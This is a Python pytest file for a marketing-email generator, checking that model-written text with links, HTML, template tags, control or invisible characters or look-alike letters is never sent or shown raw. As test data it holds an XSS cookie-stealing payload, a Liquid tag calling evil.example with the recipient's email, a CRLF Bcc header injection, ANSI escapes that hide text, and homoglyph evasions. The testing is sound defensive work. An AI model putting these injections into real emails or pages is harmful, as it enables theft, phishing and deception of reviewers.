"""Model text cannot smuggle anything (issue 18): no link, markup, template tag, control or invisible
character, or look-alike letter in what the model writes reaches a customer or a reviewer's terminal."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from azure_server import _text_of, ok
from conftest import TEST_KEY

from cpo.cli import main
from cpo.cli.output import printable
from cpo.core.models import GREETING_TAG
from cpo.email.textsafety import fold, smuggled

# (where the endpoint adds it, the hostile text, the issue code that refuses it)
HOSTILE = [
    ("body", '<a href="http://evil.example">x</a>', "link"),
    ("body", "<img src=x onerror=alert(document.cookie)>", "html"),
    # A `%` in the URL (URL-encoded Liquid) slipped past the placeholder rule's `\{%[^%]*%\}`.
    ("body", "{% connected_content https://evil.example/x?u=%7B%7Bemail%7D%7D %}", "template_tag"),
    ("body", "Results gu\u0430ranteed.", "mixed_script"),
    ("body", "Try it risk\u200b-free.", "hidden_character"),
    ("subject", "\u202e", "hidden_character"),
    ("body", "\x1b[8mhidden from the reviewer\x1b[0m", "control_character"),
    ("subject", "\r\nBcc: a@evil.example", "control_character"),
    ("body", "Sign in at evil.example/login today.", "link"),
]
# What the safety screen's compliance rules find in the folded text.
SCREENED = {"Results gu\u0430ranteed.": "unsupported guarantee", "Try it risk\u200b-free.": "risk-free claim"}


def injecting(where: str, hostile: str) -> Any:
    """A responder that answers like `email_drafter` and adds `hostile` to every email it writes."""
    from langchain_core.messages import convert_to_messages

    from cpo.llm.offline import draft_email, read_brief

    def respond(request: dict[str, Any]) -> Any:
        brief = read_brief(convert_to_messages(request.get("messages") or []))
        if brief is None:
            return None
        draft = draft_email(brief)
        if where == "subject":
            draft["subject"] = "Your Northwind Plus plan" + hostile
        else:
            first, sep, rest = draft["body"].partition("\n\n")
            draft["body"] = f"{first} {hostile}{sep}{rest}"
        return ok(tool_args=draft)

    return respond


def use_azure(monkeypatch: pytest.MonkeyPatch, live_server: Any, responder: Any) -> None:
    live_server.responder = responder
    monkeypatch.setenv("AZURE_OPENAI_ENDPOINT", live_server.endpoint)
    monkeypatch.setenv("AZURE_OPENAI_DEPLOYMENT_NAME", "gpt-4o-mini")
    monkeypatch.setenv("AZURE_OPENAI_API_KEY", TEST_KEY)
    monkeypatch.setenv("CPO_MODEL_NAME", "gpt-4o-mini")


def only_run_dir() -> Path:
    (run_dir,) = [p for p in Path("runs").iterdir() if p.is_dir() and not p.name.startswith(".")]
    return run_dir


@pytest.mark.parametrize(("where", "hostile", "code"), HOSTILE, ids=[repr(h[1])[:40] for h in HOSTILE])
def test_no_email_carrying_hostile_model_text_is_sendable(
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    live_server: Any,
    where: str,
    hostile: str,
    code: str,
) -> None:
    use_azure(monkeypatch, live_server, injecting(where, hostile))
    main(["run", "--max-repairs", "0"])
    capsys.readouterr()
    run_dir = only_run_dir()
    templates = json.loads((run_dir / "templates.json").read_text(encoding="utf-8"))
    carrying = [t for t in templates if hostile.strip() in t["subject"] + t["body"]]
    assert carrying, "the endpoint's text should be in the emails (kept, not silently rewritten)"
    assert [t["variant_id"] for t in carrying if t["sendable"]] == []
    variants = {v["variant_id"]: v for v in json.loads((run_dir / "variants.json").read_text(encoding="utf-8"))}
    assert all(code in {i["code"] for i in variants[t["variant_id"]]["validation"]["issues"]} for t in carrying)
    if hostile in SCREENED:  # the claim a look-alike or invisible character hid is read, and screened, as such
        screening = json.loads((run_dir / "screening.json").read_text(encoding="utf-8"))
        reasons = [" ".join(screening[t["variant_id"]]["reasons"]) for t in carrying]
        assert all(SCREENED[hostile] in r for r in reasons), reasons
        issues = [variants[t["variant_id"]]["validation"]["issues"] for t in carrying]
        assert all("ungrounded_claim" in {i["code"] for i in found} for found in issues)
    with (run_dir / "send_list.csv").open(encoding="utf-8", newline="") as handle:
        sent = {row["variant_id"] for row in csv.DictReader(handle)}
    assert not sent & {t["variant_id"] for t in carrying}


def test_a_refused_draft_gets_a_targeted_repair_of_its_paragraph(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], live_server: Any
) -> None:
    """The repair asks for the paragraph holding the link only, and names what to remove."""
    asks: list[str] = []
    inject = injecting("body", "Order at evil.example/login today.")

    def respond(request: dict[str, Any]) -> Any:
        text = " ".join(_text_of(m.get("content")) for m in request.get("messages") or [])
        if "evil.example/login" in text:
            asks.append(text)
            return ok("A plain paragraph with no address in it at all, about your Northwind Plus plan.")
        return inject(request)

    use_azure(monkeypatch, live_server, respond)
    main(["run", "--max-repairs", "1"])
    capsys.readouterr()
    assert asks and all("web address" in a for a in asks)
    variants = json.loads((only_run_dir() / "variants.json").read_text(encoding="utf-8"))
    model_written = [v for v in variants if v["source"] != "template"]  # cpo's own controls make no call
    assert model_written and all([s["step"] for s in v["steps"][:2]] == ["draft", "paragraph"] for v in model_written)
    templates = json.loads((only_run_dir() / "templates.json").read_text(encoding="utf-8"))
    assert not [t for t in templates if "evil.example" in t["body"] and t["sendable"]]


def test_review_shows_escape_sequences_escaped(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], live_server: Any
) -> None:
    use_azure(monkeypatch, live_server, injecting("body", "\x1b[8mhidden\x1b[0m"))
    assert main(["run", "--review", "--max-repairs", "0"]) == 4
    capsys.readouterr()
    assert main(["review", str(only_run_dir())]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\x1b[8mhidden\\x1b[0m" in out
    assert "\n\n" in out  # the bodies' paragraphs are still on their own lines


def test_printable_escapes_what_a_terminal_acts_on_and_keeps_newlines() -> None:
    assert printable("a\x1b[2Jb\rc\u202ed\u200be\x85\nf", keep_newlines=True) == (
        "a\\x1b[2Jb\\x0dc\\u202ed\\u200be\\x85\nf"
    )
    assert printable("Sale\r\nBcc: x", keep_newlines=False) == "Sale\\x0d\\x0aBcc: x"
    assert printable("Café Tシャツ $9.99 – 2-day", keep_newlines=False) == "Café Tシャツ $9.99 – 2-day"


def test_fold_reads_look_alikes_and_invisible_characters_as_plain_text() -> None:
    assert fold("gu\u0430ranteed") == "guaranteed"  # Cyrillic а
    assert fold("risk\u200b-free") == "risk-free"
    assert fold("\uff27old members \uff04\uff19") == "Gold members $9"  # full width
    assert fold("\u0391\u0392\u0421 plan") == "ABC plan"  # Greek and Cyrillic capitals
    assert fold("evil\u2024example") == "evil.example"
    plain = f"Hi {GREETING_TAG}, save $9.99 with 2-day shipping, e.g. on Northwind Plus. Café, naïve."
    assert fold(plain) == plain


@pytest.mark.parametrize(
    ("text", "subject", "codes"),
    [
        ("Visit https://evil.example now", False, {"link"}),
        ("Visit www.evil.example now", False, {"link"}),
        ("Log in at evil.example/login", False, {"link"}),
        ("See example.com for more", False, {"link"}),
        ("Write to help@northwind.example", False, {"link"}),
        ("Visit evil\uff0eexample", False, {"link"}),  # a full-width dot
        ("<b>Bold</b> words", False, {"html"}),
        ("<img src=x onerror=alert(1)", False, {"html"}),
        ("{% connected_content https://e.example %}", False, {"template_tag", "link"}),
        ("{{ unsubscribe_url }} and {# note #}", False, {"template_tag"}),
        ("Hi {{ email }}", False, {"template_tag"}),
        ("Hidden \x1b[8mtext", False, {"control_character"}),
        ("Two\rlines", False, {"control_character"}),
        ("A subject\nBcc: x", True, {"control_character"}),
        ("Sale \u202eeerf", True, {"hidden_character"}),
        ("risk\u200b-free", False, {"hidden_character"}),
        ("gu\u0430ranteed", False, {"mixed_script"}),
        ("\u0391lpha plan", True, {"mixed_script"}),
    ],
)
def test_smuggled_names_each_thing_model_text_may_not_hold(text: str, subject: bool, codes: set[str]) -> None:
    assert {s.code for s in smuggled(text, subject=subject)} == codes


@pytest.mark.parametrize(
    "text",
    [
        f"Hi {GREETING_TAG},\n\nSave $9.99 a month with 2-day shipping, e.g. on office chairs.\n\nBest regards,\n"
        "The Northwind Plus team",
        "Gold members get 25% off until 11 p.m. (U.S. orders only). No.1 in Ph.D.-level support... 3.5 stars.",
        "Café, naïve, Tシャツ, 東京 and Zürich: words in one alphabet each, with an en dash – and quotes “ok”.",
        "It costs <$50 and 2<3; email us anytime.",
    ],
)
def test_ordinary_email_text_is_not_refused(text: str) -> None:
    assert smuggled(text, subject=False) == []


def test_full_width_text_is_kept_in_plain_form_and_the_change_is_recorded() -> None:
    from cpo.core.models import EmailDraft
    from cpo.email.normalize import normalize

    draft = EmailDraft(
        subject="\uff27old members save \uff04\uff19", body="Visit evil\uff0eexample today.", citations=[]
    )
    clean, done = normalize(draft)
    assert (clean.subject, clean.body) == ("Gold members save $9", "Visit evil.example today.")
    assert [n.code for n in done] == ["unicode_compatibility"] and "U+FF27" in done[0].detail
    assert normalize(EmailDraft(subject="Save $9.99", body="Café, 2-day.", citations=[]))[1] == []


def test_a_segment_name_with_escape_sequences_is_printed_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    """Names come from the user's rules file: the summary and dry-run tables show their control characters."""
    from cpo.core.resources import bundled

    data = bundled("data")
    rules = (data / "segment_rules.yaml").read_text(encoding="utf-8")
    rules = rules.replace("  - name: Regular", '  - name: "Regular\\e[8m hidden"', 1)
    assert "\\e[8m" in rules
    Path("rules.yaml").write_text(rules, encoding="utf-8")
    campaign = (
        (data / "campaign.yaml")
        .read_text(encoding="utf-8")
        .replace("rules: segment_rules.yaml", f"rules: {Path('rules.yaml').resolve()}")
    )
    Path("campaign.yaml").write_text(campaign, encoding="utf-8")
    for extra in (["--dry-run"], []):
        main(["run", "--config", "campaign.yaml", *extra])
        out, err = capsys.readouterr()
        assert "\x1b" not in out + err and "Regular\\x1b[8m hidden" in out
